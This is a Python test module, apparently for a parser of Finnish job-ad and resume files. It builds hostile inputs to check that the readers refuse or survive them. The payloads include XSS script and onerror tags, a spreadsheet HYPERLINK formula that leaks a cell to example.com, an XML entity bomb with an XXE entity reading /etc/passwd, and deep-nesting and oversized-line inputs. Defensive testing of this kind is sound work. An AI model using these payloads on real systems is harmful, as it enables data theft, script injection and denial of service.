"""What strangers can do to a file: each hazard makes bytes of a sample, and says what must come of them."""

from collections.abc import Callable
from dataclasses import dataclass, replace
from random import Random
from typing import Literal

from tests.hostile.samples import LONG_WORDS, Sample, Words

Outcome = Literal["file", "record", "read", "any"]
"""The file is refused as a whole; the record is; all are read; or any of these, but nothing else."""
SLOT = "HAZARD"
MEGABYTES = 50
DEPTH = 100_000
MARKS = "\u202e\u2066\u200b\u0000\u0007"
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)><b>Kokki</b>"
FORMULA = '=HYPERLINK("http://example.com/?"&A1,"Kokki")'
LOOK_ALIKE = "Kоkki Kеittiö"  # noqa: RUF001  two letters are Cyrillic
IMPOSSIBLE_DAYS = ("2026-02-30", "0000-00-00", "99999-01-01", "31.31.2026", "tomorrow")
UNKNOWN_CODES = ("http://data.europa.eu/esco/isco/C9999", "http://example.com/x", "-1", "C12345678")


@dataclass(frozen=True, slots=True)
class Hazard:
    """How the bytes of a sample are made hostile, for which samples, and what must come of it."""

    name: str
    make: Callable[[Sample], bytes]
    outcome: Outcome
    concerns: Callable[[Sample], bool] = lambda _: True
    everywhere: bool = False
    """Whether the other records are hit too."""


def plain(sample: Sample) -> bytes:
    return sample.make(Words())


def said(**fields: str) -> Callable[[Sample], bytes]:
    return lambda sample: sample.make(replace(Words(), **fields))


def in_slot(inside: Callable[[Sample], bytes]) -> Callable[[Sample], bytes]:
    """The bytes of a sample with something in the place of a text, quotes of JSON included."""

    def made(sample: Sample) -> bytes:
        whole = sample.make(replace(Words(), text=SLOT))
        slot = f'"{SLOT}"' if sample.kind == "json" else SLOT
        assert slot.encode() in whole
        return whole.replace(slot.encode(), inside(sample), 1)

    return made


def deep(sample: Sample) -> bytes:
    if sample.kind == "json":
        return b'{"a":[' * DEPTH + b"]}" * DEPTH
    if sample.kind == "xml":
        return b"<a>" * DEPTH + b"</a>" * DEPTH
    return b"<div>" * DEPTH + b"((((" * 1_000


def endless(sample: Sample) -> bytes:
    line = b"Kokki " * (MEGABYTES * 2**20 // 6)
    return b'"' + line + b'"' if sample.kind == "json" else line


def half(sample: Sample) -> bytes:
    whole = plain(sample)
    return whole[: len(whole) // 2]


def other_keys(sample: Sample) -> bytes:
    """The same file of another schema: names of fields that no format knows."""
    whole = plain(sample)
    for name in (
        *("title", "tyonOtsikko", "headline", "PositionTitle", "ilmoituksenID", "DocumentID", "identifier", "guid"),
        *(
            "basics",
            "generalInfo",
            "LearnerInfo",
            "CandidateProfile",
            "description",
            "position",
            '"id"',
            "<id>",
            "</id>",
        ),
    ):
        whole = whole.replace(name.encode(), name.replace("i", "j").replace("t", "d").replace("a", "o").encode())
    return whole


def noise(sample: Sample) -> bytes:
    return plain(sample)[:64] + Random(7).randbytes(5_000)  # noqa: S311


def entities(sample: Sample) -> bytes:
    inner = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE a [<!ENTITY e0 "lol">{inner}<!ENTITY file SYSTEM "file:///etc/passwd">]>'.encode()
    whole = in_slot(lambda _: b"&e9;&file;")(sample)
    head, mark, rest = whole.rpartition(b"?>") if whole.startswith(b"<?xml") else (b"", b"", whole)
    return head + mark + bomb + rest


def days(sample: Sample) -> bool:
    return sample.days


def codes(sample: Sample) -> bool:
    return sample.codes


def is_text(sample: Sample) -> bool:
    return sample.kind != "binary"


def ways_of_reading(sample: Sample) -> bool:
    """One sample for each way in which large files are read: by rows, lines, records of JSON or XML, pages, at once."""
    return sample.name in {
        "csv",
        "jsonl",
        "job-market-finland",
        "xml",
        "web-page",
        "json-resume",
        "europass-xml",
        "text",
    }


def holds_words(sample: Sample) -> bool:
    """The formats of words alone: what a text does to the readers does not depend on the file that it came in."""
    return sample.name == "text"


HAZARDS = (
    Hazard("nothing hostile", plain, "read"),
    Hazard("nothing", lambda _: b"", "file"),
    Hazard("white space", lambda _: b" \n\t\n", "file"),
    Hazard("half of the file", half, "any", everywhere=True),
    Hazard("another schema", other_keys, "any", everywhere=True),
    Hazard("noise behind the first bytes", noise, "any", everywhere=True),
    Hazard("UTF-16", lambda sample: plain(sample).decode().encode("utf-16"), "file", is_text),
    Hazard("Latin 1", lambda sample: plain(sample).decode().encode("latin-1"), "any", is_text, everywhere=True),
    Hazard("nesting without end", in_slot(deep), "any", is_text),
    Hazard("a line of 50 MB", in_slot(endless), "any", ways_of_reading),
    Hazard("entities within entities", entities, "file", lambda sample: sample.kind == "xml"),
    Hazard("marks of direction, NUL and bell", said(title=f"Kokki{MARKS}", text=f"{LONG_WORDS}{MARKS}"), "any"),
    Hazard("half a character", said(text=f"{LONG_WORDS}\ud800"), "any", is_text),
    Hazard("look-alike letters", said(title=LOOK_ALIKE), "read"),
    Hazard("scripts and tags", said(title=f"Kokki{SCRIPT}", text=f"{LONG_WORDS}{SCRIPT}", place=SCRIPT), "read"),
    Hazard("formulas", said(title=FORMULA, text=f"{FORMULA} {LONG_WORDS}", place=FORMULA), "read"),
    *(Hazard(f"the day {day}", said(day=day), "any", days) for day in IMPOSSIBLE_DAYS),
    *(Hazard(f"the code {code}", said(code=code), "any", codes) for code in UNKNOWN_CODES),
    Hazard(
        "the longest text",
        said(text="Keitin 12.3.2019–1.1.2020 (B2, ei ruotsia), 2 500 €/kk; a@b.fi. " * 3_000),
        "read",
        holds_words,
    ),
    Hazard("a text without a space", said(text="a" * 199_000), "read", holds_words),
    Hazard("a title without end", said(title="Kokki " * 3_000), "any"),
)
